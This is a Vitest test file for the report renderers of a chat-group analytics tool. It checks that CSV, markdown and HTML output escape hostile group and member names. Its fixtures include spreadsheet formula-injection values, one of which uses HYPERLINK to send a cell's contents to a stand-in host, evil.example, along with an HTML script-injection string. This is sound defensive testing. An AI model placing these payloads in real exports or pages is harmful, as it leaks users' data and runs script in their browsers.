import { describe, expect, it } from 'vitest';
import { reporters } from '../../src/report/registry.js';
import { groupSchema, reportSchema } from '../../src/report/schema.js';
import { csvReporter } from '../../src/report/csv/index.js';
import { htmlReporter } from '../../src/report/html/index.js';
import { markdownReporter } from '../../src/report/markdown/index.js';
import { ndjsonReporter } from '../../src/report/ndjson/index.js';
import { tableReporter } from '../../src/report/table/index.js';
import { jsonReporter } from '../../src/report/json/index.js';
import { ctx, frozen } from './helpers.js';

const EXT: Record<string, string> = { table: 'txt', json: 'json', markdown: 'md', html: 'html', csv: 'csv', ndjson: 'ndjson' };
const ESC = '\u001b';

describe('the frozen report', () => {
  it('is a valid report by the contract', () => {
    const parsed = reportSchema.safeParse(frozen());
    expect(parsed.success, JSON.stringify(parsed.error?.issues.slice(0, 3))).toBe(true);
  });
});

describe.each(['en', 'zh'] as const)('every reporter on the frozen report (%s)', (lang) => {
  it.each(reporters.map((r) => r.id))('%s matches its snapshot', async (id) => {
    const reporter = reporters.find((r) => r.id === id)!;
    const text = reporter.render(frozen(), ctx(lang));
    await expect(text).toMatchFileSnapshot(`./__snapshots__/frozen.${lang}.${EXT[id]}`);
  });
});

describe('machine formats', () => {
  it('never contain terminal escapes, whatever the names hold', () => {
    for (const r of reporters) if (r.machine) expect(r.render(frozen(), ctx()).includes(ESC), r.id).toBe(false);
  });

  it('json is the report as it is, and valid', () => {
    const back = JSON.parse(jsonReporter.render(frozen()));
    expect(back).toEqual(frozen());
    expect(reportSchema.safeParse(back).success).toBe(true);
  });

  it('ndjson: one valid group object per line with its context', () => {
    const lines = ndjsonReporter.render(frozen()).trimEnd().split('\n');
    expect(lines).toHaveLength(5);
    for (const l of lines) {
      const o = JSON.parse(l);
      expect(o).toMatchObject({ asOf: frozen().asOf, timeZone: 'Asia/Shanghai', schemaVersion: 1 });
      expect(groupSchema.safeParse(o).success).toBe(true);
    }
  });
});

describe('csv', () => {
  const text = csvReporter.render(frozen(), ctx());
  it('starts with a BOM and uses CRLF', () => {
    expect(text.startsWith('\uFEFFasOf,timeZone,groupId,groupName')).toBe(true);
    expect(text.split('\r\n')).toHaveLength(7);
  });
  it('defuses formulas and quotes per RFC 4180', () => {
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example"",""Click me"")"`);
    expect(text).not.toMatch(/,=/);
  });
  it('--table members: one row per seed user, spreader and member going quiet', () => {
    const rows = csvReporter.render(frozen(), ctx('en', { table: 'members' })).replace(/^\uFEFF/, '').trimEnd().split('\r\n');
    expect(rows[0]).toBe('asOf,groupId,groupName,list,rank,memberId,name,score,invited,stayed,active,subtree,lastMessageAt,usualPerWeek');
    expect(rows.filter((r) => r.includes(',seed-user,'))).toHaveLength(25);
    expect(rows.filter((r) => r.includes(',spreader,'))).toHaveLength(19);
    expect(rows.filter((r) => r.includes(',going-quiet,'))).toHaveLength(13);
    expect(rows.some((r) => r.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`))).toBe(true);
    expect(rows.some((r) => r.includes(",'@everyone,"))).toBe(true);
  });
});

describe('markdown', () => {
  const text = markdownReporter.render(frozen(), ctx());
  it('lists the groups that need attention, dead first, and not the healthy ones', () => {
    const sections = text.split('\n').filter((l) => l.startsWith('### '));
    expect(sections).toEqual(['### 🔴 =HYPERLINK("http://evil.example","Click me")', '### 🟠 RED 团购 Shop', '### 🟡 小区业主群', '### 🟢 钓鱼爱好者']);
  });
  it('keeps names inert', () => {
    expect(text).not.toContain('<script>');
    expect(text).toContain('王五\\|读书\\*达人\\*');
  });
  it('speaks Chinese with --lang zh', () => {
    expect(markdownReporter.render(frozen(), ctx('zh'))).toContain('## 需要关注');
  });
});

describe('html', () => {
  const text = htmlReporter.render(frozen(), ctx());
  it('is self-contained: no script, no external resource, a CSP that forbids both', () => {
    expect(text).not.toMatch(/<script/i);
    expect(text).not.toMatch(/(src|href)="(https?:)?\/\//i);
    expect(text).toContain(`default-src 'none'`);
    expect(text).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
  });
  it('has the charts of every group', () => {
    expect(text.match(/<svg class="chart weekly"/g)).toHaveLength(5);
    expect(text.match(/<svg class="chart roster"/g)).toHaveLength(5);
    expect(text.match(/<svg class="chart heatmap"/g)).toHaveLength(5);
    expect(text.match(/<circle class="best"/g)).toHaveLength(5 * 3);
  });
});

describe('table', () => {
  it.each([80, 100, 160])('fits a terminal %i columns wide', (width) => {
    const text = tableReporter.render(frozen(), ctx('zh', { width }));
    for (const line of text.split('\n').filter((l) => /^[┌│├└]/.test(l))) expect(columns(line), line).toBeLessThanOrEqual(width);
  });
  it('the detail view still renders', () => {
    expect(tableReporter.render(frozen(), ctx('en', { groupId: '82546608112@chatroom' }))).toContain('Top spreaders');
  });
});

function columns(s: string): number {
  let w = 0;
  for (const ch of s) w += /[\u1100-\u115f\u2e80-\ua4cf\uac00-\ud7a3\uf900-\ufaff\ufe30-\ufe4f\uff00-\uff60\uffe0-\uffe6]/.test(ch) ? 2 : 1;
  return w;
}

describe('a self-drive score measured with no owner or admin known', () => {
  const withoutStaff = () => {
    const r = frozen();
    const g = r.groups.find((x) => x.selfDrive)!;
    g.selfDrive = { ...g.selfDrive!, staffKnown: false };
    return { r, name: g.name };
  };
  it.each(['en', 'zh'] as const)('is marked in the table and the markdown, and the mark explained under them (%s)', (lang) => {
    const { r } = withoutStaff();
    for (const reporter of [tableReporter, markdownReporter]) {
      const text = reporter.render(r, ctx(lang));
      expect(text).toMatch(/[\d%]\?/);
      expect(text).toMatch(/^\? .*1/m);
    }
    // No mark where it is known (the frozen report, from before the field existed, has none).
    expect(tableReporter.render(frozen(), ctx(lang))).not.toMatch(/^\? /m);
  });
});
